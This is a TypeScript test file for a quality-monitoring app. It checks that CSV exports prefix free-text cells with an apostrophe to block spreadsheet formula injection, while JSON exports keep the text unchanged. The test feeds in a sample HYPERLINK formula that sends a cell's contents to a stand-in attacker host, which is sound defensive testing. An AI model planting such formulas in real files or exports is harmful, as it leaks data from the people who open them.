import { parse } from 'csv-parse/sync';
import { randomUUID } from 'node:crypto';
import { describe, expect } from 'vitest';
import { heftTest, postCheck, setupLine, weightsWithMean, type TestApp } from '../helpers.js';

// OWASP, "CSV Injection": a cell that begins with one of these is run as a formula by spreadsheets.
// The API trims free text, so a leading tab or carriage return can only reach storage another way:
// those two are written through the services, the rest through the API as a person would type them.
const THROUGH_API = ['=', '+', '-', '@'] as const;
const THROUGH_SERVICE = ['\t', '\r'] as const;
const PAYLOAD = (lead: string) => `${lead}HYPERLINK("http://attacker.invalid/?"&A1,"click")`;

async function exportRows(t: TestApp, kind: 'events' | 'checks', format: 'csv' | 'json') {
  const url = `/api/exports/${kind}.${format}?from=2026-01-01T00:00:00Z&to=2027-01-01T00:00:00Z`;
  const res = await t.app.inject({ method: 'GET', url, headers: { cookie: t.cookies.quality } });
  expect(res.statusCode).toBe(200);
  return format === 'csv' ? (parse(res.body, { columns: true, relax_quotes: true }) as Record<string, string>[]) : (res.json()[kind] as Record<string, unknown>[]);
}

/** One alert acknowledged and resolved, one check with a note and a corrected revision, every free text led by `lead`. */
async function writeFreeTexts(t: TestApp, lead: string, viaApi: boolean) {
  const { lineId } = await setupLine(t);
  const text = PAYLOAD(lead);
  t.clock.advance(3_600_000);
  // far above the centre: opens a mean-shift alert on beyond 3σ; corrected before the alert is seen to
  const first = (await postCheck(t, lineId, weightsWithMean(510), viaApi ? { note: text } : {})).json();
  const alertId = first.alerts[0].id as number;
  t.clock.advance(60_000);
  if (viaApi) {
    const fixed = await t.app.inject({
      method: 'POST',
      url: `/api/checks/${first.check.id}/revisions`,
      headers: { cookie: t.cookies.operator },
      payload: { clientId: randomUUID(), weights: weightsWithMean(509), reason: text },
    });
    expect(fixed.statusCode).toBe(201);
    const sv = { cookie: t.cookies.supervisor };
    expect((await t.app.inject({ method: 'POST', url: `/api/alerts/${alertId}/acknowledge`, headers: sv, payload: { note: text } })).statusCode).toBe(200);
    expect((await t.app.inject({ method: 'POST', url: `/api/alerts/${alertId}/resolve`, headers: sv, payload: { cause: text, action: text } })).statusCode).toBe(200);
  } else {
    t.app.heft.monitor.correctCheck(first.check.id, { clientId: randomUUID(), weights: weightsWithMean(509), reason: text }, 'operator');
    t.app.heft.monitor.acknowledge(alertId, text, 'supervisor');
    t.app.heft.monitor.resolve(alertId, text, text, 'supervisor');
  }
  return text;
}

describe('exports are safe to open in a spreadsheet', () => {
  for (const lead of [...THROUGH_API, ...THROUGH_SERVICE]) {
    const viaApi = (THROUGH_API as readonly string[]).includes(lead);
    heftTest(`when every free text begins with ${JSON.stringify(lead)}, then each CSV cell gets a leading apostrophe and JSON keeps the exact text`, async ({ heft: t }) => {
      const text = await writeFreeTexts(t, lead, viaApi);
      const [eventCsv] = await exportRows(t, 'events', 'csv');
      const [eventJson] = await exportRows(t, 'events', 'json');
      for (const field of ['acknowledge_note', 'cause', 'action']) {
        expect(eventCsv?.[field], field).toBe(`'${text}`);
        expect(eventJson?.[field], field).toBe(text);
      }
      const checksCsv = await exportRows(t, 'checks', 'csv');
      const checksJson = await exportRows(t, 'checks', 'json');
      const fields = viaApi ? ['note', 'revision_reason'] : ['revision_reason'];
      for (const field of fields) {
        const csvCells = checksCsv.map((r) => r[field]).filter((v) => v !== '');
        const jsonCells = checksJson.map((r) => r[field]).filter((v) => v !== null);
        expect(csvCells.length, field).toBeGreaterThan(0);
        expect(new Set(csvCells), field).toEqual(new Set([`'${text}`]));
        expect(new Set(jsonCells), field).toEqual(new Set([text]));
      }
      // numeric columns stay numbers: no apostrophe in front of a negative size
      const size = Number(eventCsv?.size);
      expect(Number.isFinite(size)).toBe(true);
      expect(checksCsv.every((r) => /^-?\d/.test(String(r.mean ?? "")))).toBe(true);
    });
  }
});
